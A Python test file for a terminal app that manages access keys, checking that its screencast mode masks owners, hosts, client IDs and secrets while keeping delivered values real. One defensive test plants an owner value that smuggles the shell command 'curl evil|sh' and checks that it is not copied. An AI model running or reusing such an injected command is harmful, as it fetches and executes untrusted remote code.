"""A screencast shows nobody's address, host, client ID or secret, and what is delivered is real."""

from __future__ import annotations

import json
from functools import partial
from pathlib import Path

import httpx
import pytest
from textual import events
from textual.content import Content
from textual.pilot import Pilot
from textual.widgets import Input

from tests.app.dialogs.test_secret import _KILLED, kill
from tests.app.faulty import Faulty
from tests.app.planes import Planes
from tests.app.support import (
    NOW,
    dialog,
    lines,
    press,
    running,
    service_of,
    settle,
    text,
    toasts,
    until,
    write,
)
from tui.api.service import AccessKeyService
from tui.app.app import AccessKeysApp
from tui.app.widgets.sign_in_form import SignInForm
from tui.app.widgets.usage_bar import UsageBar
from tui.config.settings import SecretFile, Settings
from tui.delivery.undelivered import UndeliveredNotes
from tui.demo.record import DemoRecord
from tui.demo.sample_keys import CROWD
from tui.demo.server import Demo
from tui.screencast.pseudonyms import Pseudonyms
from tui.session.session import Session
from tui.session.sign_in_input import SignInMethod

pytestmark = pytest.mark.usefixtures("armed")

SCREENCAST = Settings(demo_role="admin", delete_after=0, screencast=True, clipboard="local")

ME = Pseudonyms().owner("ana@acme.example")
BO = Pseudonyms().owner("bo.lindqvist@acme.example")
HOST = Pseudonyms().host("demo.example")


@pytest.fixture(autouse=True)
def not_over_ssh(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("SSH_CONNECTION", "SSH_TTY", "SSH_CLIENT", "TMUX", "STY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")


@pytest.fixture
def copied(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Return texts that were copied to this computer's clipboard."""
    texts: list[str] = []

    async def copy(text: str, _environment: object, **_options: bool) -> None:
        texts.append(text)

    monkeypatch.setattr("tui.delivery.desktop_clipboard.copy_locally", copy)
    return texts


def key_named(demo: Demo, name: str) -> DemoRecord:
    return next(key for key in demo.store.my_keys() if key.name == name)


def real_values(demo: Demo) -> set[str]:
    keys = demo.store.all_keys()
    owners = {key.owner for key in keys if key.owner.isprintable()}
    secrets = {key.client_secret for key in keys}
    return owners | {key.client_id for key in keys} | secrets | {"demo.example", "acme.example"}


def assert_nothing_real(demo: Demo, shown: str) -> None:
    found = sorted(value for value in real_values(demo) if value in shown)
    assert found == [], shown


async def test_no_screen_and_no_dialog_shows_a_real_value(demo: Demo) -> None:
    plane = Faulty(demo)
    async with running(
        demo, size=(120, 40), settings=SCREENCAST, opener=lambda: service_of(demo, plane)
    ) as pilot:
        shown = [text(pilot)]

        async def look(*keys: str) -> None:
            for key in keys:
                await press(pilot, key)
                shown.append(text(pilot))

        await look("2", "o", "escape", "e", "escape", "A", "escape", "colon", "l", "escape")
        await look("space", "space", "D", "escape", "1", "enter", "escape", "S", "escape")
        plane.answer("GET", "/access-keys", refusal("bo.lindqvist@acme.example at demo.example"))
        await look("r", "n")
        plane.heal()
        await write(pilot, "walk-key")
        await look("enter", "u", "t", "s")
        shown += toasts(pilot)
    assert ME in "".join(shown)
    assert BO in "".join(shown)
    assert f"{BO} at {HOST} may not" in " ".join("\n".join(shown).split())
    assert_nothing_real(demo, "\n".join(shown))


def refusal(who: str) -> httpx.Response:
    return httpx.Response(403, json={"code": 403, "message": f"{who} may not do that"})


async def test_a_secret_is_not_even_shown_or_printed_when_asked_for(demo: Demo) -> None:
    async with running(demo, settings=SCREENCAST) as pilot:
        await press(pilot, "n")
        await write(pilot, "walk-key")
        await press(pilot, "enter", "v")
        assert "in a screencast no secret is put on the terminal" in dialog(pilot)
        assert key_named(demo, "walk-key").client_secret not in text(pilot)
        await press(pilot, "p")
        assert "Not printed" in dialog(pilot)
        assert pilot.app.is_running


@pytest.mark.parametrize("route", ["osc52", "screen", "tmux"])
async def test_nothing_is_copied_by_way_of_the_terminal(
    demo: Demo, route: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TMUX", "/tmp/tmux,1,0")
    settings = Settings(demo_role="admin", screencast=True, clipboard=route)
    async with running(demo, settings=settings) as pilot:
        await press(pilot, "c")
        assert "a recording of this terminal would hold it" in toasts(pilot)[-1]
        await press(pilot, "n")
        await write(pilot, "walk-key")
        await press(pilot, "enter", "c")
        assert dialog(pilot).endswith("(--screencast). Save it to a file.")


async def test_what_is_copied_works(demo: Demo, copied: list[str]) -> None:
    async with running(demo, settings=SCREENCAST) as pilot:
        own = key_named(demo, "laptop-terminal")
        await press(pilot, "c")
        assert copied.pop() == own.client_id
        await press(pilot, "enter", "c", "escape")
        assert copied.pop() == own.client_id
        await press(pilot, "n")
        await write(pilot, "walk-key")
        await press(pilot, "enter", "i")
        made = key_named(demo, "walk-key")
        assert copied.pop() == made.client_id
        await press(pilot, "u")
        assert HOST in dialog(pilot)
        assert Pseudonyms().client_id(made.client_id) in dialog(pilot)
        await press(pilot, "u")
        assert f"client_id={made.client_id}" in copied[-1]
        assert "https://demo.example/api/v2/token" in copied.pop()
        await press(pilot, "t")
        assert "accepted this client ID and secret" in dialog(pilot)
        await press(pilot, "c")
        assert copied.pop() == made.client_secret


async def test_what_is_saved_works(demo: Demo, tmp_path: Path) -> None:
    async with running(demo, settings=SCREENCAST) as pilot:
        await press(pilot, "n")
        await write(pilot, "walk-key")
        await press(pilot, "enter", "s")
        pilot.app.screen.query_one(Input).value = str(tmp_path / "pair.json")
        await press(pilot, "enter")
        made = key_named(demo, "walk-key")
        assert json.loads((tmp_path / "pair.json").read_text()) == {
            "name": "walk-key",
            "clientId": made.client_id,
            "clientSecret": made.client_secret,
            "baseUrl": "https://demo.example",
        }


async def test_an_export_has_what_the_server_has(demo: Demo, copied: list[str]) -> None:
    async with running(demo, settings=SCREENCAST) as pilot:
        await press(pilot, "2", "e", "tab", "enter")
        assert "https://demo.example" in copied[0]
        for key in demo.store.all_keys()[:9]:
            assert key.client_id in copied[0]


async def test_a_pseudonym_can_be_filtered_by_completed_and_asked_of_the_server(
    demo: Demo,
) -> None:
    plane = Faulty(demo)
    async with running(
        demo, settings=SCREENCAST, opener=lambda: service_of(demo, plane), size=(100, 24)
    ) as pilot:
        await press(pilot, "2", "slash")
        await write(pilot, f"owner:{BO[:5]}")
        await press(pilot, "tab", "enter")
        assert f"filter: owner:{BO}" in text(pilot)
        rows = [line for line in lines(pilot) if "@example.com" in line][1:]
        assert rows
        assert all(BO in row for row in rows)

        await press(pilot, "escape", "f")
        pilot.app.screen.query_one("#created_by", Input).value = BO
        await press(pilot, "enter")
        assert plane.asked[-1] == "createdBy=bo.lindqvist%40acme.example"
        assert "All keys 10" in text(pilot)
        await press(pilot, "f")
        pilot.app.screen.query_one("#created_by", Input).value = BO.upper()
        await press(pilot, "enter")
        assert plane.asked[-1] == "createdBy=bo.lindqvist%40acme.example"

        await press(pilot, "slash")
        await write(pilot, "me")
        assert "is yours" in text(pilot)


async def test_a_pseudonymous_key_is_the_one_that_is_deleted_or_renewed(demo: Demo) -> None:
    demo.store.add_key("ana-laptop", last_login=NOW)
    async with running(demo, settings=SCREENCAST, size=(100, 24)) as pilot:
        first = ME.partition(".")[0]
        assert "ana-laptop" not in text(pilot)
        await press(pilot, "slash")
        await write(pilot, f"{first}-laptop")
        await press(pilot, "enter")
        before = key_named(demo, "ana-laptop").client_secret
        await press(pilot, "S")
        await write(pilot, f"{first}-laptop")
        await press(pilot, "enter")
        assert key_named(demo, "ana-laptop").client_secret != before
        await press(pilot, "q", "tab", "enter", "D")
        await write(pilot, f"{first}-laptop")
        await press(pilot, "enter")
        assert "ana-laptop" not in [key.name for key in demo.store.my_keys()]
        assert len(demo.store.my_keys()) == 12


async def test_a_key_whose_answer_was_lost_is_found_under_the_name_that_was_typed(
    demo: Demo,
) -> None:
    plane = Faulty(demo)
    plane.lose("POST", "/access-keys")
    async with running(demo, settings=SCREENCAST, opener=lambda: service_of(demo, plane)) as pilot:
        await press(pilot, "n")
        await write(pilot, "ana-laptop")
        await press(pilot, "enter")
        assert "It was created, but its secret is lost" in dialog(pilot)


_ROOM_FOR_HOST = 19
"""Cells among the profiles, with an ellipsis behind them."""


async def test_the_hosts_of_profiles_are_disguised(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    planes = Planes(tmp_path, monkeypatch)
    async with planes.running("--screencast", size=(120, 40)) as pilot:
        await press(pilot, "at")
        shown = text(pilot)
        await press(pilot, "l", "enter")
        assert " lab " in lines(pilot)[0]
        shown += text(pilot)
        await press(pilot, "at", "a", "a", "enter")
        assert "Sign in to a Run:ai" in text(pilot)
        shown += text(pilot)
    assert shown.count(Pseudonyms().host("lab.example")[:_ROOM_FOR_HOST]) >= 3
    assert "lab.example" not in shown
    assert "prod.example" not in shown


async def test_a_note_of_a_secret_on_its_way_is_kept_and_found_under_the_real_name(
    demo: Demo, tmp_path: Path
) -> None:
    demo.store.add_key("ana-laptop", last_login=NOW)
    kill(_KILLED.replace("tmp-migration", "ana-laptop"), tmp_path)
    plane = Faulty(demo)
    settings = Settings(base_url="https://demo.example", screencast=True)
    session = Session(settings, opener=lambda: service_of(demo, plane), now=lambda: NOW)
    app = AccessKeysApp(session, UndeliveredNotes(tmp_path / "state"))
    async with app.run_test(size=(100, 24), notifications=True) as pilot:
        await settle(pilot)
        name = f"{ME.partition('.')[0]}-laptop"
        assert f"The secret of {name} may have reached nobody" in text(pilot)
        plane.hold("POST", "/secret")
        await press(pilot, "S")
        await write(pilot, name)
        await pilot.press("enter")
        await until(pilot, lambda: plane.held > 0)
        notes = [json.loads(path.read_text()) for path in (tmp_path / "state").iterdir()]
        assert {(note["name"], note["baseUrl"]) for note in notes} == {
            ("ana-laptop", "https://demo.example")
        }
        plane.heal()


async def test_a_key_called_as_another_one_is_shown_goes_by_its_own_name(
    demo: Demo, tmp_path: Path, copied: list[str]
) -> None:
    demo.store.add_key("ana-laptop", last_login=NOW)
    name = f"{ME.partition('.')[0]}-laptop"
    plane = Faulty(demo)
    plane.lose("POST", "/access-keys")
    session = Session(SCREENCAST, opener=lambda: service_of(demo, plane), now=lambda: NOW)
    app = AccessKeysApp(session, UndeliveredNotes(tmp_path / "state"))
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await settle(pilot)
        await press(pilot, "n")
        await write(pilot, name)
        await press(pilot, "enter")
        (note,) = (tmp_path / "state").iterdir()
        assert json.loads(note.read_text())["name"] == name
        assert "It was created, but its secret is lost" in dialog(pilot)
        await press(pilot, "tab", "tab", "enter", "s")
        pilot.app.screen.query_one(Input).value = str(tmp_path / "pair.json")
        await press(pilot, "enter")
        saved = json.loads((tmp_path / "pair.json").read_text())
        assert (saved["name"], saved["clientSecret"]) == (name, key_named(demo, name).client_secret)
        await press(pilot, "q", "enter", "k", "c")
        assert copied == [name]


async def test_only_the_key_whose_secret_was_lost_is_named_where_another_is_shown_alike(
    demo: Demo, tmp_path: Path
) -> None:
    name = f"{ME.partition('.')[0]}-laptop"
    for each in (name, "ana-laptop"):
        demo.store.add_key(each, last_login=NOW)
    kill(_KILLED.replace("tmp-migration", "ana-laptop"), tmp_path)
    session = Session(
        Settings(base_url="https://demo.example", screencast=True),
        opener=lambda: service_of(demo),
        now=lambda: NOW,
    )
    app = AccessKeysApp(session, UndeliveredNotes(tmp_path / "state"))
    async with app.run_test(size=(100, 24), notifications=True) as pilot:
        await settle(pilot)
        before = {each: key_named(demo, each).client_secret for each in (name, "ana-laptop")}
        assert f"The secret of {name} may have reached nobody" in text(pilot)
        await press(pilot, "S")
        await write(pilot, name)
        await press(pilot, "enter", "q", "tab", "enter")
        assert key_named(demo, "ana-laptop").client_secret != before["ana-laptop"]
        assert key_named(demo, name).client_secret == before[name]
        assert "may have reached nobody" not in text(pilot)


async def test_what_is_typed_into_the_form_is_masked_and_what_is_proposed_is_disguised(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("tui.config.vendor_cli.login_url", lambda: None)
    settings = Settings(base_url="https://acme.run.ai", client_id="5e7b3b7b", screencast=True)
    session = Session(settings)
    async with AccessKeysApp(session).run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        form = pilot.app.screen.query_one(SignInForm)
        assert Pseudonyms().host("acme.run.ai") in text(pilot)
        assert "acme" not in text(pilot)
        assert "5e7b3b7b" not in text(pilot)
        form.query_one("#client_secret", Input).value = "hush"
        assert (form.typed().base_url, form.typed().name) == ("https://acme.run.ai", "5e7b3b7b")

    async with AccessKeysApp(Session(Settings(screencast=True))).run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await write(pilot, "https")
        assert "•••••" in text(pilot)


async def test_what_replaces_a_proposal_in_the_form_is_masked_until_it_can_be_shown() -> None:
    session = Session(Settings(base_url="https://acme.run.ai", client_id="5e", screencast=True))
    async with AccessKeysApp(session).run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        url = pilot.app.screen.query_one("#url", Input)
        shown = url.value
        pilot.app.screen.set_focus(url)
        await press(pilot, "ctrl+u")
        await write(pilot, "acme")
        assert "acme" not in text(pilot)
        assert f"{_SHOWN_URL}••••" in text(pilot)
        url.value = shown
        await settle(pilot)
        assert f"{_SHOWN_URL}{shown}" in text(pilot)


_SHOWN_URL = "Base URL         "


async def test_a_refused_sign_in_quotes_neither_the_client_id_nor_the_user_that_was_typed(
    demo: Demo, monkeypatch: pytest.MonkeyPatch
) -> None:
    plane = Faulty(demo)
    monkeypatch.setattr("tui.config.vendor_cli.login_url", lambda: None)
    connected = partial(AccessKeyService, transport=plane)
    monkeypatch.setattr("tui.session.connect.AccessKeyService", connected)
    async with AccessKeysApp(Session(Settings(screencast=True))).run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        form = pilot.app.screen.query_one(SignInForm)
        form.query_one("#url", Input).value = "https://demo.example"
        for method, name, secret, typed in (
            (SignInMethod.KEY, "client_id", "client_secret", "5e7b3b7bfeed"),
            (SignInMethod.PASSWORD, "username", "password", "ana.lindqvist"),
        ):
            plane.answer("POST", "/token", httpx.Response(401, json={"message": f"{typed} is out"}))
            form.method = method
            await settle(pilot)
            form.query_one(f"#{name}", Input).value = typed
            form.query_one(f"#{secret}", Input).value = "hush"
            await press(pilot, "enter")
            assert "is out" in text(pilot)
            assert typed not in text(pilot)


async def test_what_a_widget_lets_through_is_covered(
    demo: Demo, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", "/home/ana.acme")
    async with running(demo, settings=SCREENCAST, size=(100, 24)) as pilot:
        await press(pilot, "2")
        said = "bo.lindqvist@acme.example can't write /home/ana.acme/x, 東 demo.example is for 東."
        pilot.app.screen.query_one(UsageBar).render = lambda: Content(said)  # type: ignore[method-assign]
        pilot.app.screen.query_one(UsageBar).refresh()
        await settle(pilot)
        covered = "•" * 25 + " can't write /home/••••••••/x, 東 •••••••••••• is for 東."
        assert covered in text(pilot)


async def test_a_secret_that_can_not_be_had_is_told_of_without_hosts_and_homes(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    settings = Settings(
        base_url="https://demo.example",
        client_id="5e7b3b7b",
        source=SecretFile(tmp_path / "secret"),
        screencast=True,
    )
    session = Session(settings)
    async with AccessKeysApp(session).run_test(size=(100, 24)) as pilot:
        session.drawn.set()
        await settle(pilot)
        assert "~/secret does not exist" in text(pilot)
        assert HOST in text(pilot)
        assert "demo.example" not in text(pilot)


async def test_an_owner_who_may_mean_harm_is_not_copied(demo: Demo, copied: list[str]) -> None:
    demo.store.add_key("trap", owner="x;curl evil|sh@acme.example", last_login=NOW)
    async with running(demo, settings=SCREENCAST, size=(100, 24)) as pilot:
        await press(pilot, "2", "slash")
        await write(pilot, "trap")
        await press(pilot, "enter", "enter", "j", "j", "c")
        assert "Owner was not copied: a shell could execute it" in dialog(pilot)
        assert copied == []


async def test_owners_that_a_file_names_are_disguised_and_asked_for(tmp_path: Path) -> None:
    demo = Demo(now=lambda: NOW, crowd=True)
    old_hand = list(CROWD)[-1]
    file = tmp_path / "owners"
    file.write_text(old_hand)
    async with running(demo, settings=SCREENCAST, size=(100, 40)) as pilot:
        await press(pilot, "2", "A")
        pilot.app.screen.query_one(Input).value = str(file)
        await press(pilot, "enter")
        assert f"✓ {Pseudonyms().owner(old_hand)} 6 keys" in dialog(pilot)
        assert_nothing_real(demo, text(pilot))


def footer(pilot: Pilot[None]) -> str:
    return lines(pilot)[-1].rstrip()


async def test_the_keys_that_are_pressed_stand_in_the_footer(demo: Demo) -> None:
    async with running(demo, settings=SCREENCAST, size=(100, 24)) as pilot:
        verbs = footer(pilot)
        await press(pilot, "2", "j", "ctrl+l", "slash")
        await write(pilot, "ci run")
        assert footer(pilot).endswith(" ctrl+l /  ci run")
        await press(pilot, "enter", "D")
        assert footer(pilot).endswith(" ci run enter  D")
        await press(pilot, "escape", "1")
        assert footer(pilot).endswith(" enter D esc  1")
        assert footer(pilot).startswith(verbs)


async def test_what_goes_into_a_secret_field_is_shown_as_bullets() -> None:
    session = Session(Settings(base_url="https://acme.run.ai", client_id="5e7b", screencast=True))
    async with AccessKeysApp(session).run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await write(pilot, "hush")
        assert footer(pilot).endswith("  ••••")
        pilot.app.post_message(events.Paste("hush"))
        await settle(pilot)
        assert footer(pilot).endswith(" ••••  paste")
        assert "hush" not in text(pilot)


async def test_otherwise_the_footer_shows_no_keys(demo: Demo) -> None:
    async with running(demo, size=(100, 24)) as pilot:
        before = footer(pilot)
        await press(pilot, "j")
        assert footer(pilot) == before
